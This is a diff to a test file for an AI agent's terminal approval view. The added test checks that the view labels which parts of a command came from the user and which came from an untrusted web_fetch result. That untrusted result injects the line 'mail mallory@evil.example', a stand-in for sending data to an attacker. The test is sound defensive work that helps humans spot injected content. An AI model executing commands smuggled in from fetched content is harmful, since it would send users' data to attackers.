@@ -13,8 +13,9 @@ from rich.cells import cell_len
 
 from app.core.events import ApprovalRequired, ApprovalResolved, TextDelta, ToolProgress
 from app.policy.grants import Grant
-from routes.terminal.approval_text import GUTTER, answer, exact, exact_json, literal_pattern, question
+from routes.terminal.approval_text import GUTTER, answer, literal_pattern, question
 from routes.terminal.view import View
+from routes.texts.exact import exact, exact_json
 
 HIDDEN = {
     "an escape sequence": ("a\x1b[31mb", "a<U+001B>[31mb"),
@@ -141,3 +142,21 @@ def test_nothing_is_redrawn_while_a_question_is_open() -> None:
         busy.append(view.busy)
     assert busy == [True, True, False, True]
     assert told.startswith("So\n? bash wants to run.\n")
+
+
+def test_it_says_where_the_arguments_come_from() -> None:
+    command = "mail bob@example.com\nmail mallory@evil.example"
+    own = {"kind": "person", "source": "0", "place": "a message", "untrusted": False, "exact": True}
+    other = {"kind": "result", "source": "c1", "place": "the result of web_fetch", "untrusted": True, "exact": False}
+    spans = [
+        {"argument": "/command", "start": 5, "end": 20} | own,
+        {"argument": "/command", "start": 15, "end": 46} | other,
+    ]
+    rows = rows_of(replace(asked({"command": command}), origins=spans), None)
+    assert rows[-5:] == [
+        "  Where these words come from:",
+        "  Your message:",
+        "  │ command: bob@example.com",
+        "  A result, from web_fetch, untrusted:",
+        "  │ command: e.com<U+000A>mail mallory@evil.example",
+    ]
